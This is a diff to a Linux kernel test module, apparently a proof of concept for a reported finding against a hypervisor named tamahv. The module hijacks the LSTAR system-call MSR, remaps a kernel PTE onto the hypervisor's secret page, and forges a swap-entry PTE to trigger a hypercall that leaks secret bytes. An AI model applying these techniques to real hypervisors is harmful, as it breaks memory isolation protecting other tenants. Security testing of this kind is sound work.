@@ -258,29 +258,53 @@ static long wait_status(int ms)
 	return s;
 }
 
+/* user_pte returns the PTE of addr in mm (mmap lock held), or NULL. */
+static pte_t *user_pte(struct mm_struct *mm, unsigned long addr)
+{
+	pgd_t *pgd = pgd_offset(mm, addr);
+	p4d_t *p4d;
+	pud_t *pud;
+	pmd_t *pmd;
+
+	if (pgd_none(*pgd))
+		return NULL;
+	p4d = p4d_offset(pgd, addr);
+	if (p4d_none(*p4d))
+		return NULL;
+	pud = pud_offset(p4d, addr);
+	if (pud_none(*pud) || pud_large(*pud))
+		return NULL;
+	pmd = pmd_offset(pud, addr);
+	if (pmd_none(*pmd) || pmd_large(*pmd))
+		return NULL;
+	return pte_offset_kernel(pmd, addr);
+}
+
 /*
  * Finding 1: the breakpoint agent follows IA32_LSTAR to its detour. The
  * module points LSTAR at two crafted calls in a vmalloc'ed page: the
  * second call ends at the page's end, so the detour is the next page,
  * which the module maps (its PTE) to tamahv's secret page (HcSecret).
- * A BPFault swap read of an untouched page of the calling process makes
- * tamahv arm the agent at once; the module then reads the detour page
- * (the split view would switch it to tamahv's own memory), restores
- * LSTAR, touches the page so the read completes, and reads the detour
- * page again. Interrupts stay off while LSTAR is crafted: no system call
- * can run.
+ * A BPFault swap read of a page of the calling process that looks swapped
+ * out (its PTE holds a swap entry the module wrote; tamahv raises faults
+ * only for such backed pages) makes tamahv arm the agent at once; the
+ * module then reads the detour page (the split view would switch it to
+ * tamahv's own memory), restores LSTAR and the PTE (empty: the read can
+ * only fail), and reads the detour page again. Interrupts stay off while
+ * LSTAR and the PTE are crafted: no system call runs, nothing else sees
+ * the entry.
  */
 static void attack_detour(const char *name)
 {
+	struct mm_struct *mm = current->mm;
 	u8 *code, *seen;
 	unsigned long uva, flags, secret;
 	struct swap_request *req;
 	unsigned int level;
-	pte_t *ptep, saved;
+	pte_t *ptep, saved, *uptep = NULL, usaved;
 	u64 lstar;
 	long r, s;
 	int before, during, after;
-	char c;
 
 	secret = hypercall(HC_SECRET, 0, 0);
 	if (secret < TAMAHV_START || secret >= TAMAHV_END) {
@@ -290,9 +314,14 @@ static void attack_detour(const char *name)
 	code = vmalloc(2 * PAGE_SIZE);
 	seen = kmalloc(PAGE_SIZE, GFP_KERNEL);
 	req = kzalloc(sizeof(*req), GFP_KERNEL);
-	uva = vm_mmap(NULL, 0, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, 0);
-	if (!code || !seen || !req || IS_ERR_VALUE(uva)) {
+	uva = vm_mmap(NULL, 0, 2 * PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, 0);
+	if (!code || !seen || !req || IS_ERR_VALUE(uva) || !mm) {
 		report(name, "FAILED", "no memory for the attack");
+		goto out;
+	}
+	/* The first page brings the page table in; the second is read. */
+	if (put_user(1, (char __user *)uva)) {
+		report(name, "FAILED", "cannot touch %#lx", uva);
 		goto out;
 	}
 	memset(code, 0xcc, PAGE_SIZE);
@@ -311,14 +340,26 @@ static void attack_detour(const char *name)
 	set_pte(ptep, pfn_pte(secret >> PAGE_SHIFT, PAGE_KERNEL));
 	__flush_tlb_all();
 
-	req->va = uva;
+	req->va = uva + PAGE_SIZE;
 	req->len = PAGE_SIZE;
 	req->options = OPT_BPFAULT;
 	sha256_of(0, req->sha256);
 
 	memcpy(seen, code + PAGE_SIZE, PAGE_SIZE);
 	before = count_byte(seen, SECRET_BYTE);
+	mmap_read_lock(mm);
+	uptep = user_pte(mm, uva + PAGE_SIZE);
+	if (!uptep || !pte_none(*uptep)) {
+		mmap_read_unlock(mm);
+		set_pte(ptep, saved);
+		__flush_tlb_all();
+		report(name, "FAILED", "no empty page-table entry for %#lx", uva + PAGE_SIZE);
+		goto out;
+	}
 	local_irq_save(flags);
+	usaved = *uptep;
+	/* A swap entry: not present, not PROT_NONE, non-zero. */
+	set_pte(uptep, __swp_entry_to_pte(__swp_entry(0, 0x1234)));
 	rdmsrl(MSR_LSTAR, lstar);
 	wrmsrl(MSR_LSTAR, (unsigned long)code);
 	r = hypercall(HC_SWAP_READ, (unsigned long)req, sizeof(*req));
@@ -328,12 +369,13 @@ static void attack_detour(const char *name)
 	memcpy(seen, code + PAGE_SIZE, PAGE_SIZE);
 	during = count_byte(seen, SECRET_BYTE);
 	wrmsrl(MSR_LSTAR, lstar);
+	set_pte(uptep, usaved);
+	__flush_tlb_all();
 	local_irq_restore(flags);
+	mmap_read_unlock(mm);
 
-	/* Bring the page in: the read completes without a fault. */
-	if (get_user(c, (char __user *)uva))
-		c = 0;
-	s = wait_status(2000);
+	/* The page is empty again: the read fails (backed-page rule). */
+	s = r ? 0 : wait_status(2000);
 	memcpy(seen, code + PAGE_SIZE, PAGE_SIZE);
 	after = count_byte(seen, SECRET_BYTE);
 
@@ -348,7 +390,7 @@ static void attack_detour(const char *name)
 		       secret, r, status_name(s), before, during, after);
 out:
 	if (!IS_ERR_VALUE(uva))
-		vm_munmap(uva, PAGE_SIZE);
+		vm_munmap(uva, 2 * PAGE_SIZE);
 	kfree(req);
 	kfree(seen);
 	vfree(code);
